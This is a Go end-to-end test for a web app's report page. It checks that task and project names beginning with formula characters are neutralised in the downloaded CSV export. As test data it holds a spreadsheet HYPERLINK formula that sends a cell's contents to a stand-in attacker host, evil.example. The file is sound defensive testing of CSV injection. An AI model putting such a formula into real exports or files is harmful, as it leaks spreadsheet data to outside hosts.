package frontend_test

import (
	"encoding/csv"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// TestReportCSVFormulas: anyone may name a task, and a lead or admin opens
// the report's CSV in a spreadsheet; a name that starts like a formula
// stays text there, quoted or not (one with a comma or a quote was
// quoted first and then slipped past the guard).
func TestReportCSVFormulas(t *testing.T) {
	t.Parallel()
	srv := startServer(t)
	admin := srv.register(t, "Ana Admin", "ana@example.com")
	_, plain := admin.projectAndTask("=1+1", "#0d9488", "@SUM(1)")
	_, formula := admin.projectAndTask(`=HYPERLINK("https://evil.example/?"&A1,"x")`, "#ea580c", "Deploy")
	for _, task := range []string{plain, formula} {
		admin.must("POST", "/entries", map[string]any{"task_id": task, "date": utcToday(), "minutes": 30}, 201, nil)
	}

	b := newBrowser(t, srv.URL)
	b.signIn("ana@example.com", password)
	q := url.Values{"period": {"custom"}, "from": {utcToday()}, "to": {utcToday()}, "g1": {"task"}}
	b.open("/reports?" + q.Encode())
	b.waitFor("the report", `document.querySelector('#report-table tbody tr')`)
	records := downloadReportCSV(t, b)
	names := map[string]bool{}
	for _, rec := range records {
		for _, cell := range rec {
			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") {
				t.Errorf("CSV cell %q starts a formula", cell)
			}
			for _, n := range []string{"HYPERLINK", "@SUM(1)"} {
				names[n] = names[n] || strings.Contains(cell, n)
			}
		}
	}
	if len(names) != 2 || !names["HYPERLINK"] || !names["@SUM(1)"] {
		t.Errorf("the CSV does not name both tasks:\n%v", records)
	}
}

// downloadReportCSV taps the report's CSV button and reads the file the
// page hands the browser.
func downloadReportCSV(t *testing.T, b *browser) [][]string {
	t.Helper()
	eval[chromedp.Void](b, `(() => { window.csvText = null; const real = URL.createObjectURL;
		URL.createObjectURL = (blob) => { blob.text().then((t) => { window.csvText = t; }); return real(blob); }; })()`)
	tap(b, "#report-csv")
	b.waitFor("the CSV", `window.csvText`)
	records, err := csv.NewReader(strings.NewReader(eval[string](b, `window.csvText`))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}
